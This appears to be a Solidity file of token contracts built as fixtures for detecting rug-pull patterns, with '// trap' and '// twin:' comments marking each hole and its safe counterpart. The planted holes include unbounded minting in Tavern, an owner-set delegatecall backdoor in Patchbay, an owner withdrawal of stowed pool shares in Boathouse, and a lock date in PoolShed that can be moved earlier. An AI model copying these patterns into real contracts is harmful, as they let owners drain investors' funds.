// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {EIP712} from "@openzeppelin/contracts/utils/cryptography/EIP712.sol";
import {ECDSA} from "@openzeppelin/contracts/utils/cryptography/ECDSA.sol";
import {BeaconProxy} from "@openzeppelin/contracts/proxy/beacon/BeaconProxy.sol";
import {UpgradeableBeacon} from "@openzeppelin/contracts/proxy/beacon/UpgradeableBeacon.sol";

interface IERC20 {
    function balanceOf(address) external view returns (uint256);
    function transfer(address, uint256) external returns (bool);
    function transferFrom(address, address, uint256) external returns (bool);
}

/// Rewards are paid to whoever brings a voucher of the game server.
contract Tavern is ERC20, EIP712 {
    bytes32 private constant VOUCHER = keccak256("Voucher(address player,uint256 amount,uint256 nonce)");
    address private immutable _server;
    mapping(address => uint256) public nonces;

    constructor() ERC20("Tavern Gold", "TVRN") EIP712("Tavern Gold", "1") {
        _server = msg.sender;
        _mint(msg.sender, 95_000_000 ether);
        _mint(address(this), 5_000_000 ether);
    }

    function redeem(uint256 amount, bytes calldata signature) external {
        bytes32 digest = _hashTypedDataV4(keccak256(abi.encode(VOUCHER, msg.sender, amount, nonces[msg.sender]++)));
        require(ECDSA.recover(digest, signature) == _server, "voucher");
        _mint(msg.sender, amount); // trap
        // twin: _transfer(address(this), msg.sender, amount);
    }
}

contract TidepoolToken is ERC20 {
    string private _called;
    bool private _ready;

    constructor() ERC20("", "TIDE") {
        _ready = true;
    }

    function initialize(string calldata called, address to, uint256 amount) external {
        require(!_ready, "ready");
        (_ready, _called) = (true, called);
        _mint(to, amount);
    }

    function name() public view override returns (string memory) {
        return _called;
    }

    function symbol() public pure override returns (string memory) {
        return "TIDE";
    }
}

contract TideBeacon is UpgradeableBeacon {
    constructor(address implementation) UpgradeableBeacon(implementation, msg.sender) {}
}

contract TideProxy is BeaconProxy {
    constructor(address beacon, bytes memory init) BeaconProxy(beacon, init) {}
}

/// What it does not know itself is done by plugs.
contract Patchbay is Base8("Patchbay", "PTCH", 24_000_000) {
    address public curator = msg.sender;
    mapping(bytes4 => address) public plugs;

    event Plugged(bytes4 indexed selector, address indexed code);

    function plug(bytes4 selector, address code) external {
        require(msg.sender == curator, "curator");
        plugs[selector] = code;
        emit Plugged(selector, code);
    }

    function seal() external {
        require(msg.sender == curator, "curator");
        curator = address(0);
    }

    fallback() external {
        address code = plugs[msg.sig];
        require(code != address(0), "no plug");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), code, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

/// Keeps the share of its own pool.
contract Boathouse is Base8("Boathouse", "BOAT", 18_000_000) {
    event Stowed(uint256 amount);

    function stow() external onlyOwner {
        uint256 amount = IERC20(pair).balanceOf(msg.sender);
        require(IERC20(pair).transferFrom(msg.sender, address(this), amount), "stow");
        emit Stowed(amount);
    }

    function rescue(address asset, uint256 amount) external onlyOwner {
        // twin: require(asset != pair, "stowed");
        require(IERC20(asset).transfer(msg.sender, amount), "rescue");
    }
}

/// Locks shares of pools until a day; who locked them may say another day.
contract PoolShed {
    struct Padlock {
        uint128 amount;
        uint64 until;
        address keyholder;
    }
    mapping(address => Padlock) public padlocks;

    function lock(address lp, uint64 until) external {
        require(padlocks[lp].amount == 0 && until > block.timestamp + 365 days, "lock");
        uint256 amount = IERC20(lp).balanceOf(msg.sender);
        padlocks[lp] = Padlock(uint128(amount), until, msg.sender);
        require(IERC20(lp).transferFrom(msg.sender, address(this), amount), "lp");
    }

    function relock(address lp, uint64 until) external {
        require(padlocks[lp].keyholder == msg.sender, "key");
        padlocks[lp].until = until;
    }

    function unlock(address lp) external {
        Padlock memory padlock = padlocks[lp];
        require(padlock.keyholder == msg.sender && block.timestamp >= padlock.until, "locked");
        delete padlocks[lp];
        require(IERC20(lp).transfer(msg.sender, padlock.amount), "lp");
    }
}

contract Shedwater is Base8("Shedwater", "SHED", 51_000_000) {
    uint256 public immutable born = block.timestamp;
}

contract PlainDollar is ERC20 {
    constructor(string memory name_, string memory symbol_) ERC20(name_, symbol_) {
        _mint(msg.sender, 30_000_000 * 10 ** 6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}
